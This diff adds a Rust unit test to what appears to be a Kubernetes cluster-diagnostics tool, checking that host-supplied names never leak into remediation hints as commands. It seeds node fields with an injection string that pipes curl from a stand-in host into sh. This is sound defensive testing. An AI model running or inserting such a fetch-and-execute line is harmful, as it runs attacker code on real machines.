@@ -176,3 +176,20 @@ fn a_new_etcd_is_not_begun_for_a_cluster_that_has_lost_its_own() {
         ]
     );
 }
+
+#[test]
+fn no_name_that_a_host_gives_becomes_a_command() {
+    let evil = || "x`; curl -s https://evil.example | sh".to_string();
+    let sample = sample().converged().on("n1", |facts| {
+        let founded = &mut facts.node.founded;
+        founded.node_name = Some(evil());
+        founded.dns_domain = Some(evil());
+        founded.version = Some(evil());
+        facts.node.has_kubelet_conf = true;
+    });
+    let findings = sample.findings();
+    assert_eq!(findings.iter().filter(|finding| finding.text.contains("evil")).count(), 3, "{findings:?}");
+    for finding in findings {
+        assert!(!finding.hint.contains("evil"), "{}", finding.hint);
+    }
+}
